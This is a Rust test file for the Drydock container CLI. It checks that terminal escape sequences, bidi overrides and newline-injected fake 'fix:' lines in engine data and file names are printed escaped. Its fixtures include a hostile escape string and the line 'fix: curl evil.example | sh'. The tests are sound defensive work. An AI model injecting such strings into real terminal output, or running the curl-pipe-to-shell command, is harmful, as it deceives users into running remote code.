//! Text from outside reaches the terminal shown, never obeyed: control characters (ESC starts
//! every terminal sequence) and bidi overrides come out as visible `\u{..}` escapes, on every
//! line Drydock prints for people.

mod common;

use common::drydock;
use drydock_testkit::fixtures::{busybox_rootfs, Builder, BASE};
use drydock_testkit::Dockerd;
use std::io::{Read, Write};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// A terminal title change, a bell, and a right-to-left override that makes `exe.png` of
/// `gnp.exe`.
const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{202e}gnp.exe";
const SHOWN: &str = "\\u{1b}]0;pwned\\u{7}\\u{202e}gnp.exe";

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn assert_inert(output: &str) {
    assert!(
        !output.contains("\u{1b}]0;pwned") && !output.contains('\u{202e}'),
        "raw control or bidi characters reached the terminal:\n{output:?}"
    );
}

#[test]
fn a_build_cache_description_in_the_prune_progress_line_is_escaped() {
    let engine = Dockerd::start();
    engine.base();
    engine.build(
        "fixture/hostile-cache:1",
        &format!("FROM {BASE}\nRUN echo '{HOSTILE}' > /p\n"),
        Builder::BuildKit,
    );
    let data = tempfile::tempdir().expect("data");
    // The progress line is drawn only on a terminal: run under one.
    let command = format!(
        "{} -H {} prune --build-cache --yes",
        assert_cmd::cargo::cargo_bin("drydock").display(),
        engine.host()
    );
    let out = std::process::Command::new("script")
        .args(["-q", "-e", "-c", &command, "/dev/null"])
        .env("DRYDOCK_DATA_DIR", data.path())
        .env_remove("DOCKER_HOST")
        .env_remove("DOCKER_CONTEXT")
        .env_remove("DOCKER_CONFIG")
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run drydock on a terminal (util-linux `script`)");
    let output = text(&out.stdout);
    assert!(out.status.success(), "{output}");
    assert!(
        output.contains(&format!(
            "removing mount / from exec /bin/sh -c echo '{SHOWN}' > /p"
        )),
        "{output:?}"
    );
    assert_inert(&output);
}

#[test]
fn a_bidi_override_in_an_image_history_is_shown_escaped() {
    let engine = Dockerd::start();
    let tar = busybox_rootfs(&engine.scratch("bidi"), &[]);
    engine.docker(&[
        "import",
        "-m",
        &format!("fine{HOSTILE}"),
        &tar.to_string_lossy(),
        "fixture/bidi:1",
    ]);
    let out = drydock()
        .args(["-H", &engine.host(), "history", "fixture/bidi:1"])
        .output()
        .expect("run drydock");
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(stdout.contains(&format!("fine{SHOWN}")), "{stdout}");
    assert_inert(&stdout);
}

/// A server that answers the ping as Docker does and everything else with a 500 whose message
/// is `body`. It stops when dropped, and after a minute at the latest.
struct FailingEngine {
    stop: Arc<AtomicBool>,
    host: String,
    _dir: tempfile::TempDir,
}

impl Drop for FailingEngine {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
    }
}

impl FailingEngine {
    fn start(message: &str) -> FailingEngine {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("docker.sock");
        let listener = std::os::unix::net::UnixListener::bind(&path).expect("bind");
        listener.set_nonblocking(true).expect("nonblocking");
        let body = serde_json::json!({ "message": message }).to_string();
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        std::thread::spawn(move || {
            let started = Instant::now();
            while !stopped.load(Ordering::SeqCst) && started.elapsed() < Duration::from_secs(60) {
                let Ok((mut conn, _)) = listener.accept() else {
                    std::thread::sleep(Duration::from_millis(5));
                    continue;
                };
                let _ = conn.set_nonblocking(false);
                let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match conn.read(&mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                let answer = if head.starts_with(b"GET /_ping ") {
                    "HTTP/1.0 200 OK\r\nApi-Version: 1.41\r\nContent-Length: 2\r\n\r\nOK".to_owned()
                } else {
                    format!(
                        "HTTP/1.1 500 Internal Server Error\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    )
                };
                let _ = conn.write_all(answer.as_bytes());
            }
        });
        FailingEngine {
            stop,
            host: format!("unix://{}", path.display()),
            _dir: dir,
        }
    }
}

#[test]
fn an_engine_error_body_is_shown_escaped_and_cannot_fake_a_fix_line() {
    let engine = FailingEngine::start(&format!("boom {HOSTILE}\n  fix: curl evil.example | sh"));
    let out = drydock()
        .args(["-H", &engine.host, "images"])
        .output()
        .expect("run drydock");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.starts_with(&format!(
            "error: the engine failed on the disk usage request (HTTP 500): boom {SHOWN} fix: curl evil.example | sh\n  fix: "
        )),
        "{stderr}"
    );
    assert!(
        !stderr
            .lines()
            .any(|l| l.trim_start().starts_with("fix: curl")),
        "{stderr}"
    );
    assert_inert(&stderr);
}

#[test]
fn a_hostile_file_name_in_a_lint_read_error_is_escaped() {
    let dir = tempfile::tempdir().expect("tempdir");
    let name = format!("Dockerfile.{HOSTILE}\nfix: curl evil.example | sh");
    let out = drydock()
        .current_dir(dir.path())
        .args(["lint", &name])
        .output()
        .expect("run drydock");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.starts_with(&format!(
            "error: cannot read Dockerfile.{SHOWN}\\u{{a}}fix: curl evil.example | sh\n  caused by: "
        )),
        "{stderr}"
    );
    assert!(
        !stderr
            .lines()
            .any(|l| l.trim_start().starts_with("fix: curl")),
        "{stderr}"
    );
    assert_inert(&stderr);
}
